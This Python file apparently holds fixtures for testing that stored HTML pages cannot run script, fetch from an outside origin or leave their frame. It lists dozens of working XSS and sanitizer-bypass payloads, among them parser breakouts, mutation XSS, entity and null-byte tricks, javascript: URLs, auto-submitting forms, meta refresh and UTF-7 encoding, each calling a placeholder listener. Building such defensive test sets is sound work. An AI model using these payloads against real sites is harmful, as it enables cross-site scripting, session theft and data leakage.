"""Stored pages that try to run something, to reach somebody or to leave their frame; ``{to}`` is who listens."""

CALLS = {
    "script": "<script>fetch('{to}/script');document.cookie='x=1';parent.document.title='taken'</script>",
    "script src": "<script src='{to}/script.js'></script>",
    "module": "<script type=module>import '{to}/module.js'</script>",
    "script async defer": "<script async defer src={to}/async.js></script>",
    "import map": '<script type=importmap>{{"imports":{{"a":"{to}/map.js"}}}}</script><script type=module>import \'a\'</script>',
    "img": "<img src='{to}/img.png'>",
    "img srcset": "<img srcset='{to}/one.png 1x, {to}/two.png 2x'>",
    "img onerror": "<img src=x onerror=\"new Image().src='{to}/onerror'\">",
    "picture": "<picture><source srcset='{to}/source.png'><img src='{to}/fallback.png'></picture>",
    "svg image": "<svg><image href='{to}/svg.png' xlink:href='{to}/svg2.png' /></svg>",
    "svg onload": "<svg onload=\"fetch('{to}/svgload')\"></svg>",
    "svg script": "<svg><script href='{to}/svg.js'></script></svg>",
    "svg use": "<svg><use href='{to}/sprite.svg#a'></use></svg>",
    "svg foreignObject": "<svg><foreignObject><iframe src='{to}/foreign'></iframe></foreignObject></svg>",
    "svg animate": "<svg><a><animate attributeName=href values='javascript:fetch(\"{to}/animate\")' begin=0s></animate><text>x</text></a></svg>",
    "math": "<math><mtext><table><mglyph><style><img src='{to}/math.png'></style></mglyph></table></mtext></math>",
    "math href": "<math href='javascript:fetch(\"{to}/mathhref\")'>CLICK</math>",
    "link stylesheet": "<link rel=stylesheet href='{to}/sheet.css'>",
    "link preload": "<link rel=preload as=image href='{to}/preload.png'>",
    "link prefetch": "<link rel=prefetch href='{to}/prefetch'>",
    "link preconnect": "<link rel=preconnect href='{to}'><link rel=dns-prefetch href='{to}'>",
    "link modulepreload": "<link rel=modulepreload href='{to}/modulepreload.js'>",
    "link icon": "<link rel=icon href='{to}/icon.ico'><link rel=manifest href='{to}/manifest.json'>",
    "link prerender": "<link rel=prerender href='{to}/prerender'>",
    "speculation rules": '<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{to}/spec"]}}]}}</script>',
    "meta refresh": "<meta http-equiv=refresh content='0;url={to}/refresh'>",
    "meta refresh in body": "<p>x<meta http-equiv='ReFrEsH' content=\"0; URL='{to}/refresh2'\">",
    "meta csp": "<meta http-equiv=Content-Security-Policy content=\"default-src *; script-src * 'unsafe-inline'\"><script>fetch('{to}/metacsp')</script>",
    "base": "<base href='{to}/'><img src=based.png><a href=x>y</a>",
    "iframe": "<iframe src='{to}/frame'></iframe>",
    "iframe srcdoc": "<iframe srcdoc=\"<img src='{to}/srcdoc.png'><script>fetch('{to}/srcdoc')</script>\"></iframe>",
    "nested frames": "<frameset><frame src='{to}/frame1'><frame src='javascript:fetch(\"{to}/frame2\")'></frameset>",
    "object": "<object data='{to}/object.swf'><embed src='{to}/embed.swf'></object>",
    "embed": "<embed src='{to}/embed' type=text/html>",
    "applet": "<applet archive='{to}/a.jar' code=X></applet>",
    "video": "<video src='{to}/v.mp4' poster='{to}/poster.png' autoplay></video>",
    "audio": "<audio src='{to}/a.mp3' autoplay></audio><track src='{to}/t.vtt'>",
    "form": "<form action='{to}/form' id=f><input name=a autofocus onfocus=this.form.submit()></form><script>document.forms[0].submit()</script>",
    "formaction": "<form><button formaction='{to}/formaction' autofocus>x</button></form>",
    "input image": "<input type=image src='{to}/input.png'>",
    "isindex": "<isindex action='{to}/isindex' type=image src='{to}/isindex.png'>",
    "style import": "<style>@import url('{to}/import.css');@import '{to}/import2.css';</style>",
    "style background": "<style>body{{background:url('{to}/bg.png')}}@font-face{{font-family:x;src:url('{to}/font.woff')}}body{{font-family:x}}</style>",
    "style inline": "<div style=\"background:url('{to}/inline.png');list-style:url({to}/list.png);cursor:url({to}/c.cur),auto\">x</div>",
    "style image-set": "<div style=\"background-image:image-set('{to}/set.png' 1x);mask-image:url({to}/mask.svg);filter:url({to}/f.svg#a)\">x</div>",
    "style breaks out": "<style></style/><script>fetch('{to}/styleout')</script></style><style>x</sty\\6ce><img src={to}/s.png>",
    "body background": "<body background='{to}/body.png' onload=\"fetch('{to}/bodyload')\" onpageshow=\"fetch('{to}/pageshow')\">",
    "table background": "<table background='{to}/table.png'><tr><td background='{to}/td.png'>x</table>",
    "bgsound": "<bgsound src='{to}/b.wav'><img dynsrc='{to}/d.avi' lowsrc='{to}/low.gif'>",
    "noscript": "<noscript><img src='{to}/noscript.png'><style></noscript><img src='{to}/noscript2.png'>",
    "template": "<template><img src='{to}/template.png'></template><template shadowrootmode=open><img src='{to}/shadow.png'></template>",
    "textarea": "<textarea></textarea><img src='{to}/textarea.png'></textarea>",
    "title": "<title></title><img src='{to}/title.png'></title>",
    "xmp": "<xmp></xmp><img src='{to}/xmp.png'></xmp><plaintext><img src='{to}/plain.png'>",
    "comment": "<!--><img src='{to}/comment.png'>--><!--!><img src='{to}/comment2.png'>--!><img src='{to}/comment3.png'>-->",
    "cdata": "<![CDATA[><img src='{to}/cdata.png'>]]><?php echo '<img src={to}/php.png>' ?>",
    "mutation": "<p id='</p><img src={to}/mutation.png onerror=alert(1)>'><listing>&lt;img src={to}/listing.png&gt;</listing>",
    "select": "<select><option><style></option></select><img src='{to}/select.png'></style></select>",
    "attributes": "<div data-x='\"><img src={to}/attr.png>' title=\"'><img src={to}/attr2.png>\" class=`><img src={to}/attr3.png>`>x</div>",
    "entities": "<img src='&#104;ttp{rest}/entity.png'><a href='java&#115;cript:fetch(\"{to}/entity\")' autofocus onfocus=click()>x</a>",
    "null bytes": "<scr\0ipt>fetch('{to}/null')</scr\0ipt><im\0g src='{to}/null.png'>",
    "ping": "<a href='{to}/href' ping='{to}/ping' autofocus>x</a><area href='{to}/area'>",
    "popup": "<script>window.open('{to}/popup');top.location='{to}/top';alert(1);confirm(1);print()</script>",
    "worker": "<script>new Worker('{to}/w.js');navigator.serviceWorker.register('/sw.js');navigator.sendBeacon('{to}/beacon')</script>",
    "websocket": "<script>new WebSocket('{ws}/ws');new EventSource('{to}/events')</script>",
    "web component": "<portal src='{to}/portal'></portal><fencedframe src='{to}/fenced'></fencedframe>",
    "dialog": "<dialog open><form method=dialog><input autofocus></form></dialog><details open ontoggle=\"fetch('{to}/toggle')\"><summary>x</summary></details>",
    "marquee": "<marquee onstart=\"fetch('{to}/marquee')\" loop=1 width=0>x</marquee>",
    "xml stylesheet": "<?xml-stylesheet href='{to}/xsl.css'?><html xmlns='http://www.w3.org/1999/xhtml'><img src='{to}/xml.png'/></html>",
    "htmx": "<div hx-get='{to}/htmx' hx-trigger=load data-hx-get='{to}/datahtmx' hx-on:load=\"fetch('{to}/hxon')\">x</div>",
    "jinja": "{{{{ ''.__class__ }}}}{{% import os %}}<img src='{to}/jinja.png'>",
    "conditional": "<!--[if true]><img src='{to}/cond.png'><![endif]--><![if true]><img src='{to}/cond2.png'><![endif]>",
}
"""What each page holds, by what it tries."""


def hostile_pages(to: str) -> dict[str, tuple[bytes, str]]:
    """Each page as bytes with its content type; ``to`` is the origin that must never be asked for anything."""
    rest, ws = to.removeprefix("http"), to.replace("http", "ws", 1)
    pages = {
        name: (
            f"<html><body><p>본문</p>{call.format(to=to, rest=rest, ws=ws)}</body></html>".encode(),
            "text/html; charset=utf-8",
        )
        for name, call in CALLS.items()
    }
    image = f"<p>본문<img src='{to}/charset.png'><script>fetch('{to}/charset')</script>"
    pages["utf-7"] = (
        image.replace("<", "+ADw-").replace(">", "+AD4-").encode("ascii", "ignore"),
        "text/html; charset=utf-7",
    )
    pages["utf-16"] = (b"\xff\xfe" + image.encode("utf-16-le"), "text/html; charset=utf-16")
    pages["wrong charset"] = (image.encode("cp949"), "text/html; charset=iso-2022-kr")
    pages["iso-2022-jp"] = (b"\x1b$B<img src=x>\x1b(B" + image.encode("cp949"), "text/html; charset=iso-2022-jp")
    svg = f"<svg xmlns='http://www.w3.org/2000/svg'><script>fetch('{to}/svgdoc')</script><image href='{to}/svgdoc.png'/></svg>"
    pages["an SVG document"] = (svg.encode(), "image/svg+xml")
    xml = f"<?xml version='1.0'?><?xml-stylesheet href='{to}/x.xsl' type='text/xsl'?><a xmlns:h='http://www.w3.org/1999/xhtml'><h:script src='{to}/h.js'/></a>"
    pages["an XML document"] = (xml.encode(), "application/xml")
    pages["a PDF"] = (b"%PDF-1.7 /OpenAction << /S /URI /URI (" + to.encode() + b"/pdf) >>", "application/pdf")
    pages["a script"] = (f"fetch('{to}/js')".encode(), "text/javascript")
    pages["deep"] = (b"<div>" * 4_000 + f"<img src='{to}/deep.png'>".encode(), "text/html")
    pages["many attributes"] = (
        ("<img " + " ".join(f"a{n}=1" for n in range(3_000)) + f" src='{to}/many.png'>").encode(),
        "text/html",
    )
    return pages
